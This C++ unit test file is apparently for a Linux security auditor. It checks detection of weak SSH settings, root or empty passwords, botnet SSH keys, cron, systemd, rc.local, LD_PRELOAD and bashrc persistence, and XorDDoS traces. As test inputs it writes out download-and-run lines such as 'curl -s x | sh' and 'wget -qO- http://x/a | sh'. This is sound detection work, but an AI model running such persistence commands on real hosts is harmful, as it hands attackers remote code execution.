#include <gtest/gtest.h>

#include "analysis/account_rules.hpp"
#include "analysis/audit_rules.hpp"
#include "analysis/persistence_rules.hpp"
#include "analysis/ssh_rules.hpp"

using namespace ctguard;

namespace {

SshdSettings settings(std::map<std::string, std::string> v) {
    SshdSettings s;
    for (auto& [k, val] : v) s.values[k] = {val, "/etc/ssh/sshd_config", 3};
    return s;
}

SshdSettings hardened() {
    return settings({{"passwordauthentication", "no"},
                     {"kbdinteractiveauthentication", "no"},
                     {"usepam", "yes"},
                     {"permitrootlogin", "prohibit-password"},
                     {"permitemptypasswords", "no"}});
}

SshdConfig main_only() {
    SshdConfig c;
    c.main_path = "/etc/ssh/sshd_config";
    c.found = true;
    return c;
}

std::vector<std::string> ids(const std::vector<Finding>& f) {
    std::vector<std::string> out;
    for (const auto& x : f) out.push_back(x.id + ":" + std::string(severity_name(x.severity)));
    return out;
}

}  // namespace

TEST(SshRules, HardenedConfigIsQuiet) {
    EXPECT_TRUE(ssh_findings(main_only(), hardened()).empty());
}

TEST(SshRules, EachRiskySetting) {
    auto s = hardened();
    s.values["passwordauthentication"] = {"yes", "", 0};  // built-in default
    auto f = ssh_findings(main_only(), s);
    ASSERT_EQ(ids(f), std::vector<std::string>{"ssh.password_auth:high"});
    EXPECT_EQ(f[0].file, "/etc/ssh/sshd_config");
    EXPECT_EQ(f[0].line, 0);
    EXPECT_NE(f[0].message.find("built-in default"), std::string::npos);
    EXPECT_NE(f[0].fix.find("ctguard harden ssh --apply"), std::string::npos);

    s = hardened();
    s.values["kbdinteractiveauthentication"].value = "yes";
    EXPECT_EQ(ids(ssh_findings(main_only(), s)), std::vector<std::string>{"ssh.kbd_interactive:high"});
    s.values["usepam"].value = "no";  // keyboard-interactive without PAM asks for no password
    EXPECT_TRUE(ssh_findings(main_only(), s).empty());
}

TEST(SshRules, RootAndEmptyPasswordsAreLatentWithoutPasswordLogins) {
    auto s = hardened();
    s.values["permitrootlogin"].value = "yes";
    s.values["permitemptypasswords"].value = "yes";
    EXPECT_EQ(ids(ssh_findings(main_only(), s)),
              (std::vector<std::string>{"ssh.root_login:low", "ssh.empty_passwords:low"}));
    s.values["passwordauthentication"].value = "yes";
    EXPECT_EQ(ids(ssh_findings(main_only(), s)),
              (std::vector<std::string>{"ssh.password_auth:high", "ssh.root_login:high",
                                        "ssh.empty_passwords:high"}));
}

TEST(SshRules, MatchBlockTurningPasswordsBackOn) {
    auto c = main_only();
    c.directives.push_back({"passwordauthentication", {"yes"}, "/etc/ssh/sshd_config", 40, {"User deploy"}});
    c.directives.push_back({"passwordauthentication", {"no"}, "/etc/ssh/sshd_config", 44, {"User ops"}});
    auto f = ssh_findings(c, hardened());
    ASSERT_EQ(ids(f), std::vector<std::string>{"ssh.password_auth:high"});
    EXPECT_EQ(f[0].line, 40);
    EXPECT_NE(f[0].message.find("'Match User deploy'"), std::string::npos);
    EXPECT_NE(f[0].fix.find("cannot override a Match block"), std::string::npos);
    // Already on globally: the global finding says it all.
    auto s = hardened();
    s.values["passwordauthentication"].value = "yes";
    EXPECT_EQ(ids(ssh_findings(c, s)), std::vector<std::string>{"ssh.password_auth:high"});
}

TEST(SshRules, ConfigErrors) {
    auto c = main_only();
    c.problems.push_back({"/etc/ssh/sshd_config", 7, "unbalanced quotes"});
    auto f = ssh_findings(c, hardened());
    ASSERT_EQ(ids(f), std::vector<std::string>{"ssh.config_error:medium"});
    EXPECT_EQ(f[0].line, 7);
}

namespace {

Accounts accounts(const std::string& root_hash) {
    Accounts a;
    a.passwd = {{"root", 0, 0, "/root", "/bin/bash", 1},
                {"alice", 1000, 1000, "/home/alice", "/bin/bash", 2}};
    a.shadow = {{"root", root_hash, std::nullopt, 1}, {"alice", "$y$j9T$x$y", std::nullopt, 2}};
    a.shadow_read = true;
    return a;
}

}  // namespace

TEST(AccountRules, LockedRootIsQuiet) {
    EXPECT_TRUE(account_findings(accounts("!"), hardened()).empty());
    EXPECT_TRUE(account_findings(accounts("*"), hardened()).empty());
    EXPECT_TRUE(account_findings(accounts("!$6$salt$hash"), hardened()).empty());
}

TEST(AccountRules, RootPasswordSeverityFollowsSsh) {
    auto f = account_findings(accounts("$6$salt$hash"), hardened());
    ASSERT_EQ(ids(f), std::vector<std::string>{"account.root_password:medium"});
    EXPECT_NE(f[0].fix.find("`passwd -l root`"), std::string::npos);
    EXPECT_NE(f[0].fix.find("`passwd root`"), std::string::npos);
    auto s = hardened();
    s.values["passwordauthentication"].value = "yes";
    s.values["permitrootlogin"].value = "yes";
    EXPECT_EQ(ids(account_findings(accounts("$6$salt$hash"), s)),
              std::vector<std::string>{"account.root_password:high"});
}

TEST(AccountRules, EmptyPasswordsAndExtraRoot) {
    auto a = accounts("!");
    a.shadow[1].hash = "";
    a.passwd.push_back({"toor", 0, 0, "/root", "/bin/sh", 3});
    auto f = account_findings(a, hardened());
    EXPECT_EQ(ids(f), (std::vector<std::string>{"account.uid0:high", "account.empty_password:high"}));
    EXPECT_EQ(f[0].line, 3);
    EXPECT_NE(f[0].fix.find("userdel -f toor"), std::string::npos);
    // Without /etc/shadow only the passwd check runs.
    a.shadow_read = false;
    EXPECT_EQ(ids(account_findings(a, hardened())), std::vector<std::string>{"account.uid0:high"});
}

namespace {

const int64_t kNow = 1'750'000'000;

AuthorizedKeysFile key_file(int64_t age, std::vector<AuthorizedKey> keys) {
    return {"root", "/root/.ssh/authorized_keys", kNow - age, std::move(keys), ""};
}

AuthorizedKey key(int line, std::string fp, std::string comment) {
    return {line, "", "ssh-ed25519", std::move(comment), std::move(fp)};
}

}  // namespace

TEST(KeyRules, RecentChanges) {
    std::vector<AuthorizedKeysFile> files = {key_file(2 * 86400, {key(1, "SHA256:a", "me")})};
    auto f = key_findings(files, std::nullopt, "/etc/ctguard/known_keys", kNow);
    ASSERT_EQ(ids(f), std::vector<std::string>{"keys.recent:medium"});
    EXPECT_NE(f[0].message.find("changed 2 days ago"), std::string::npos);
    EXPECT_NE(f[0].message.find("SHA256:a 'me'"), std::string::npos);
    files[0].mtime = kNow - 30 * 86400;
    EXPECT_TRUE(key_findings(files, std::nullopt, "/etc/ctguard/known_keys", kNow).empty());
    files[0].mtime = kNow - 3600;
    files[0].keys.clear();  // an empty file lets nobody in
    EXPECT_TRUE(key_findings(files, std::nullopt, "/etc/ctguard/known_keys", kNow).empty());
}

TEST(KeyRules, UnknownAndBotnetKeys) {
    std::vector<AuthorizedKeysFile> files = {
        key_file(90 * 86400, {key(1, "SHA256:mine", "me"), key(2, "SHA256:evil", "mdrfckr")})};
    EXPECT_EQ(ids(key_findings(files, std::nullopt, "k", kNow)),
              std::vector<std::string>{"keys.malicious:high"});
    std::set<std::string> known = {"SHA256:mine"};
    auto f = key_findings(files, known, "/etc/ctguard/known_keys", kNow);
    EXPECT_EQ(ids(f), (std::vector<std::string>{"keys.malicious:high", "keys.unknown:high"}));
    EXPECT_EQ(f[1].line, 2);
    known.insert("SHA256:evil");
    EXPECT_EQ(ids(key_findings(files, known, "k", kNow)), std::vector<std::string>{"keys.malicious:high"});
}

TEST(Crontab, CommandAfterScheduleAndUser) {
    EXPECT_EQ(crontab_command("*/3 * * * * root /etc/cron.hourly/gcc.sh", true), "/etc/cron.hourly/gcc.sh");
    EXPECT_EQ(crontab_command("17 *\t* * *\troot\tcd / && run-parts x", true), "cd / && run-parts x");
    EXPECT_EQ(crontab_command("@reboot /tmp/.x/run", false), "/tmp/.x/run");
    EXPECT_EQ(crontab_command("@reboot root /tmp/.x/run", true), "/tmp/.x/run");
    EXPECT_FALSE(crontab_command("SHELL=/bin/sh", true));
    EXPECT_FALSE(crontab_command("# 1 2 3 4 5 root x", true));
    EXPECT_FALSE(crontab_command("1 2 3", false));
}

namespace {

PersistenceScan scan_of(StartupKind kind, std::string path, std::string text, bool owned = false) {
    PersistenceScan s;
    s.dpkg = true;
    s.startup.push_back({kind, std::move(path), std::move(text), owned});
    return s;
}

}  // namespace

TEST(PersistenceRules, LineTooLongToJudge) {
    auto f =
        persistence_findings(scan_of(StartupKind::crontab, "/etc/crontab",
                                     "* * * * * root curl -s x | sh #" + std::string(1 << 20, 'a') + "\n"));
    ASSERT_EQ(ids(f), std::vector<std::string>{"persist.cron.too_long:medium"});
    EXPECT_LT(f[0].message.size(), 400u);
}

TEST(PersistenceRules, StartupFiles) {
    auto f =
        persistence_findings(scan_of(StartupKind::crontab, "/etc/crontab",
                                     "SHELL=/bin/sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n"
                                     "* * * * * root wget -qO- http://x/a | sh\n"));
    ASSERT_EQ(ids(f), std::vector<std::string>{"persist.cron.download:high"});
    EXPECT_EQ(f[0].line, 3);

    EXPECT_EQ(ids(persistence_findings(scan_of(StartupKind::crontab, "/etc/cron.d/x", "", false))),
              std::vector<std::string>{"persist.cron.unowned:low"});
    EXPECT_TRUE(persistence_findings(scan_of(StartupKind::crontab, "/etc/cron.d/x", "", true)).empty());
    EXPECT_EQ(ids(persistence_findings(scan_of(StartupKind::user_crontab, "/var/spool/cron/crontabs/bob",
                                               "# m h dom mon dow command\n0 1 * * * /usr/bin/backup\n"))),
              std::vector<std::string>{"persist.cron.user_crontab:low"});
    EXPECT_TRUE(
        persistence_findings(scan_of(StartupKind::user_crontab, "/var/spool/cron/crontabs/bob", "# none\n"))
            .empty());

    EXPECT_EQ(ids(persistence_findings(scan_of(StartupKind::systemd_unit, "/etc/systemd/system/a.service",
                                               "[Service]\nExecStart=-/var/tmp/.a/b\n"))),
              std::vector<std::string>{"persist.systemd.writable_exec:high"});
    EXPECT_TRUE(
        persistence_findings(scan_of(StartupKind::systemd_unit, "/lib/systemd/system/a.service",
                                     "[Service]\nExecStart=/usr/sbin/a\nWorkingDirectory=/tmp/.a\n", true))
            .empty());

    EXPECT_TRUE(
        persistence_findings(scan_of(StartupKind::rc_local, "/etc/rc.local", "#!/bin/sh -e\nexit 0\n"))
            .empty());
    EXPECT_EQ(ids(persistence_findings(
                  scan_of(StartupKind::rc_local, "/etc/rc.local", "#!/bin/sh\n/usr/bin/ok\n"))),
              std::vector<std::string>{"persist.rc_local:medium"});

    EXPECT_EQ(
        ids(persistence_findings(scan_of(StartupKind::init_script, "/etc/init.d/abcxyz", "#!/bin/sh\n"))),
        std::vector<std::string>{"persist.initd.unowned:medium"});
    EXPECT_TRUE(
        persistence_findings(scan_of(StartupKind::init_script, "/etc/init.d/ssh", "#!/bin/sh\n", true))
            .empty());

    EXPECT_EQ(
        ids(persistence_findings(scan_of(StartupKind::ld_preload, "/etc/ld.so.preload", "# c\n/lib/x.so\n"))),
        std::vector<std::string>{"persist.ld_preload:high"});
    EXPECT_TRUE(persistence_findings(scan_of(StartupKind::ld_preload, "/etc/ld.so.preload", "\n# nothing\n"))
                    .empty());
    EXPECT_EQ(
        ids(persistence_findings(scan_of(StartupKind::ld_preload, "/etc/ld.so.preload", "/tmp/.x.so\n"))),
        std::vector<std::string>{"persist.ld_preload:high"});

    EXPECT_EQ(
        ids(persistence_findings(scan_of(StartupKind::shell_rc, "/root/.bashrc", "curl -s x | bash\n"))),
        std::vector<std::string>{"persist.shell_rc.download:high"});
    EXPECT_TRUE(
        persistence_findings(scan_of(StartupKind::shell_rc, "/root/.bashrc", ". ~/.cargo/env\n")).empty());
}

TEST(PersistenceRules, XorDdosAndBinaries) {
    auto s = scan_of(StartupKind::cron_script, "/etc/cron.hourly/gcc.sh", "#!/bin/sh\n");
    s.drops = {{"/lib/libudev.so", false, false, true},         {"/boot/oygkkvkdyx", false, true, true},
               {"/boot/initrd.img-6.1.0", false, false, false},  // generated, not a program
               {"/boot/vmlinuz-6.1.0", true, false, false},     {"/lib/udev/udev", false, true, true},
               {"/lib/udev/ata_id", true, true, true}};
    s.binaries = {{"/bin/ps", "procps", "aaa", "bbb"},
                  {"/bin/ss", "iproute2", "ccc", "ccc"},
                  {"/bin/netstat", "", "", "ddd"}};
    EXPECT_EQ(ids(persistence_findings(s)),
              (std::vector<std::string>{"xorddos.gcc_sh:high", "xorddos.libudev:high",
                                        "xorddos.boot_file:high", "xorddos.udev_file:high",
                                        "binary.modified:high", "binary.unowned:medium"}));
    // Without dpkg's records "no package installed it" means nothing.
    s.dpkg = false;
    EXPECT_EQ(ids(persistence_findings(s)), std::vector<std::string>{"xorddos.gcc_sh:high"});
}

TEST(AuditRules, MostSevereFirstAndCounts) {
    AuditInputs in;
    in.sshd = main_only();
    in.ssh = hardened();
    in.ssh.values["permitrootlogin"].value = "yes";  // low: password logins are off
    in.accounts = accounts("$6$salt$hash");          // medium
    in.persistence = scan_of(StartupKind::ld_preload, "/etc/ld.so.preload", "/lib/x.so\n");  // high
    auto r = run_audit_rules(in);
    EXPECT_EQ(ids(r.findings),
              (std::vector<std::string>{"persist.ld_preload:high", "account.root_password:medium",
                                        "ssh.root_login:low"}));
    EXPECT_EQ(r.ssh.source, "parser");
    in.sshd.found = false;
    EXPECT_EQ(run_audit_rules(in).ssh.source, "none");
}
